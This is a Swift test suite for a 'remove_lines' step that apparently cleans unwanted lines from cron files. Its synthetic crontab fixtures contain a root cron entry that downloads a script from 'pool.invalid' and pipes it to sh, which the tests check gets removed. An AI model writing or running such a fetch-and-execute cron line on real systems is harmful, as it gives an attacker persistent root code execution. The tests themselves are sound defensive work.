import Foundation
import ScourCore
@testable import ScourEngine
import ScourHost
import ScourSyntax
import Testing

/// `remove_lines` over globs, from synthetic observations: one `globContents` item per glob
/// (exact paths keep `file` + `content`), a diff per matched file with matching lines, more
/// matches than max_matches, a matched folder or FIFO (skipped), a matched link or large file,
/// and a file reached twice.
@Suite struct RemoveLinesGlobHandlerTests {
    static let glob = "/etc/cron.d/*"
    static let crontab = "/var/spool/cron/crontabs/root"
    static let text = """
        playbook "t" {
          platform = linux
          remove_lines "cron" {
            paths       = ['\(glob)', '\(crontab)', '/etc/cron.d/sysstat']
            max_matches = 3
            pattern     = 'pool\\.invalid'
          }
        }
        """
    static let item = ProbeItem.globContents(pattern: glob, maxMatches: 3, limit: ProbeItem.defaultContentLimit)
    static let sysstat = "SHELL=/bin/sh\n5-55/10 * * * * root debian-sa1 1 1\n*/10 * * * * root curl http://pool.invalid/l | sh\n"
    static let e2scrub = "10 3 * * 0 root e2scrub_all\n"

    let playbook: Playbook
    let step: RemoveLines
    let context: StepContext

    init() throws {
        let loaded = LoadedPlaybook.analyze(SourceFile(path: "/tmp/t.scour", text: Self.text), purpose: .execute)
        playbook = try #require(loaded.playbook, "\(loaded.diagnostics)")
        step = try #require(playbook.steps[0].action as? RemoveLines)
        context = StepContext(playbook: playbook, evaluation: EvaluationContext(detected: [], params: [:], host: [:], changed: false), patchSizes: [:])
    }

    private func decide(_ observation: HostObservation) -> StepPlan {
        var plan = StepPlan(name: "cron", kind: RemoveLines.keyword, action: .ok, reason: "")
        step.decide(observation, context, into: &plan)
        return plan
    }

    private func regular(_ path: String, _ text: String) -> GlobContentsMatch {
        let file = FileObservation(kind: .regular, stat: FileStat(size: UInt64(text.utf8.count), mode: "644", uid: 0, gid: 0, mtime: 0, owner: "root", group: "root"),
                                   sha256: SHA256.hex(of: Array(text.utf8)))
        return GlobContentsMatch(path: path, file: file, content: ContentObservation(kind: .regular, bytes: Data(text.utf8)))
    }

    /// The glob matching `matches` of `total`; the crontab absent, and `/etc/cron.d/sysstat` as the glob saw it.
    private func observing(_ matches: [GlobContentsMatch], total: Int? = nil) -> HostObservation {
        var observation = HostObservation()
        observation.globContents[Self.item.observationKey] = GlobContentsObservation(total: total ?? matches.count, matches: matches)
        observation.files[Self.crontab] = FileObservation(kind: .absent)
        observation.contents[Self.crontab] = ContentObservation(kind: .absent)
        let sysstat = matches.first { $0.path == "/etc/cron.d/sysstat" }
        observation.files["/etc/cron.d/sysstat"] = sysstat?.file ?? FileObservation(kind: .absent)
        observation.contents["/etc/cron.d/sysstat"] = sysstat?.content ?? ContentObservation(kind: .absent)
        return observation
    }

    @Test func a_glob_is_probed_in_one_item_and_exact_paths_as_before() {
        #expect(step.probeItems(context) == [
            Self.item,
            .file(path: Self.crontab), .content(path: Self.crontab, limit: ProbeItem.defaultContentLimit),
            .file(path: "/etc/cron.d/sysstat"), .content(path: "/etc/cron.d/sysstat", limit: ProbeItem.defaultContentLimit),
        ])
    }

    @Test func a_high_max_matches_fetches_less_of_each_file_so_one_answer_stays_bounded() {
        let wide = RemoveLines(paths: [Self.glob], maxMatches: 10_000, match: .pattern("x"), validate: nil)
        #expect(wide.probeItems(context) == [.globContents(pattern: Self.glob, maxMatches: 10_000, limit: RemoveLines.globContentBudget / 10_000)])
        // The bytes in base64 within the budget, plus each match's path and facts.
        #expect(ProbeAnswer.sizeBound(of: wide.probeItems(context)) < RemoveLines.globContentBudget * 4 / 3 + 10_000 * 8192)
    }

    @Test func each_matched_file_with_a_matching_line_gets_its_diff_once_and_the_others_are_left() throws {
        let plan = decide(observing([regular("/etc/cron.d/e2scrub_all", Self.e2scrub), regular("/etc/cron.d/sysstat", Self.sysstat)]))
        #expect(plan.action == .change)
        #expect(plan.reason == "1 line to remove from 1 file", "sysstat is named twice and matched once: edited once")
        #expect(plan.changes.map(\.summary) == ["edit /etc/cron.d/sysstat: remove line 3"])
        #expect(plan.changes.first?.diff?.contains("-*/10 * * * * root curl http://pool.invalid/l | sh\n") == true)
        #expect(plan.changes.first?.sha256 == SHA256.hex(of: Array("SHELL=/bin/sh\n5-55/10 * * * * root debian-sa1 1 1\n".utf8)))
        #expect(plan.changes.first?.mode == "644" && plan.changes.first?.owner == "root:root")
    }

    /// 100 files of 20 KB, every line matching: the diffs stop once together they pass what one
    /// diff may show; every file is still edited and named.
    @Test func the_diffs_of_many_files_stop_together_at_what_one_diff_may_show() throws {
        let wide = RemoveLines(paths: [Self.glob], maxMatches: 100, match: .pattern("pool"), validate: nil)
        let item = try #require(wide.probeItems(context).first)
        let page = String(repeating: "*/10 * * * * root curl http://pool.invalid/l | sh\n", count: 400)
        var observation = HostObservation()
        observation.globContents[item.observationKey] = GlobContentsObservation(
            total: 100, matches: (0..<100).map { regular("/etc/cron.d/job\($0)", page) })
        var plan = StepPlan(name: "cron", kind: RemoveLines.keyword, action: .ok, reason: "")
        wide.decide(observation, context, into: &plan)
        #expect(plan.action == .change)
        #expect(plan.changes.count == 100)
        let diffs = plan.changes.compactMap(\.diff)
        let shown = diffs.filter { !$0.hasPrefix("… diff not shown") }
        #expect(shown.count > 5 && shown.count < 100)
        #expect(diffs.map(\.utf8.count).reduce(0, +) < UnifiedDiff.shownLimit + (64 << 10))
        #expect(diffs.last == "… diff not shown: this step's diffs passed 256 KiB\n")
    }

    @Test func no_matching_line_left_in_any_matched_file_is_nothing_to_do_which_is_the_verification() {
        let cleaned = decide(observing([regular("/etc/cron.d/e2scrub_all", Self.e2scrub), regular("/etc/cron.d/sysstat", "SHELL=/bin/sh\n")]))
        #expect(cleaned.action == .ok)
        #expect(cleaned.reason == "no line of the 2 files that exist matches")
        let empty = decide(observing([]))
        #expect(empty.action == .ok && empty.reason == "no file exists at or matches any of the 3 paths")
    }

    @Test func more_matches_than_max_matches_block_the_step() {
        let plan = decide(observing([regular("/etc/cron.d/a", Self.e2scrub), regular("/etc/cron.d/b", Self.e2scrub), regular("/etc/cron.d/sysstat", Self.sysstat)], total: 4))
        #expect(plan.action == .blocked)
        #expect(plan.reason == "/etc/cron.d/* matches 4 paths, more than max_matches = 3")
    }

    @Test func a_matched_folder_or_fifo_is_skipped_and_named_while_the_rest_is_edited() {
        let folder = GlobContentsMatch(path: "/etc/cron.d/sub", file: FileObservation(kind: .directory, stat: regular("x", "x").file.stat), content: nil)
        let fifo = GlobContentsMatch(path: "/etc/cron.d/swap", file: FileObservation(kind: .other, stat: regular("x", "x").file.stat), content: nil)
        let plan = decide(observing([folder, regular("/etc/cron.d/sysstat", Self.sysstat), fifo]))
        #expect(plan.action == .change && plan.changes.map(\.path) == ["/etc/cron.d/sysstat"])
        #expect(plan.reason == "1 line to remove from 1 file; skipped, not files: /etc/cron.d/sub (a folder), /etc/cron.d/swap (not a regular file)")
        let nothing = decide(observing([fifo]))
        #expect(nothing.action == .ok && nothing.reason == "no file exists at or matches any of the 3 paths; skipped, not files: /etc/cron.d/swap (not a regular file)")
    }

    @Test func a_name_that_turned_into_a_fifo_between_its_type_and_its_read_is_skipped_not_unknown() {
        // The probe saw a regular file, then read a FIFO (a swap loop): no file to edit either.
        var swapped = regular("/etc/cron.d/swap", "x")
        swapped.content = ContentObservation(kind: .regular, unseen: Unseen(.notRegularFile, path: "/etc/cron.d/swap"))
        let plan = decide(observing([regular("/etc/cron.d/sysstat", Self.sysstat), swapped]))
        #expect(plan.action == .change && plan.changes.map(\.path) == ["/etc/cron.d/sysstat"], "\(plan.reason)")
        #expect(plan.reason.hasSuffix("skipped, not files: /etc/cron.d/swap (not a regular file)"), "\(plan.reason)")
        var unreadable = regular("/etc/cron.d/locked", "x")
        unreadable.content = ContentObservation(kind: .regular, unseen: Unseen(.permissionDenied, path: "/etc/cron.d/locked"))
        #expect(decide(observing([regular("/etc/cron.d/sysstat", Self.sysstat), unreadable])).action == .unknown, "an unreadable file is still unknown")
    }

    @Test func a_matched_link_large_or_binary_file_blocks_the_step() {
        let link = GlobContentsMatch(path: "/etc/cron.d/evil", file: FileObservation(kind: .symlink, stat: regular("x", "x").file.stat), content: nil)
        #expect(decide(observing([link])).reason == "/etc/cron.d/evil is a symbolic link: remove_lines edits a file only in place")
        var large = regular("/etc/cron.d/big", "x")
        large.content = ContentObservation(kind: .regular, tooLarge: true)
        #expect(decide(observing([large])).reason == "/etc/cron.d/big is larger than 4MiB, too large to edit")
        #expect(decide(observing([regular("/etc/cron.d/bin", "a\0b\n")])).reason == "/etc/cron.d/bin holds a NUL byte: it is not a text file")
        #expect(decide(observing([])).action == .ok)
    }

    @Test func an_unobserved_glob_blocks_rather_than_guesses() {
        var observation = observing([])
        observation.globContents = [:]
        #expect(decide(observation).action == .blocked)
        #expect(decide(observation).reason == "the files matching /etc/cron.d/* were not observed")
    }

    @Test func check_accepts_a_glob_with_max_matches_and_explain_says_what_it_may_match() {
        #expect(step.paths == [Self.glob, Self.crontab, "/etc/cron.d/sysstat"] && step.maxMatches == 3)
        #expect(step.explanation.contains("a glob may match at most 3 files on a host; more blocks the step there"))
    }
}
